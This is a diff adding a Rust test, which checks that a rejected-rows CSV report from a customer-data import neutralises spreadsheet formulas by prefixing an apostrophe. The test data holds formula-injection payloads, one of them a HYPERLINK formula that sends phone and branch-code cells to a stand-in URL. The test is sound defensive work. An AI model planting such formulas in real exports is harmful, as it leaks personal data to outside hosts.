@@ -235,6 +235,24 @@ async fn hostile_spreadsheets_are_refused_within_bounds_and_only_after_the_permi
 }
 
 #[tokio::test]
+async fn a_rejected_rows_report_carries_no_formula() {
+    let app = spawn_app_with(5).await;
+    let hq = app.login("hq01").await;
+    let file = "客户号,姓名,手机号,网点代码\n\
+        F001,\"=HYPERLINK(\"\"https://x/?\"\"&C2&D2,\"\"fix\"\")\",12345,SH01\n\
+        F002,\"\t=1+1\",12345,SH01\n\
+        F003,@SUM(A1),12345,SH01\n";
+    let v = dry_run(&app, &hq, "f.csv", file.as_bytes().to_vec()).await;
+    assert_eq!(v["bad_rows"], 3, "{v}");
+    let id = v["id"].as_str().unwrap();
+    let csv = hq.client.get(app.url(&format!("/api/v1/imports/{id}/rejected.csv"))).send().await.unwrap();
+    let csv = csv.text().await.unwrap();
+    let mut r = csv::Reader::from_reader(csv.trim_start_matches('\u{feff}').as_bytes());
+    let names: Vec<String> = r.records().map(|x| x.unwrap()[2].to_owned()).collect();
+    assert_eq!(names, ["'=HYPERLINK(\"https://x/?\"&C2&D2,\"fix\")", "'\t=1+1", "'@SUM(A1)"]);
+}
+
+#[tokio::test]
 async fn bad_files_are_refused_with_a_reason() {
     let app = spawn_app_with(5).await;
     let hq = app.login("hq01").await;
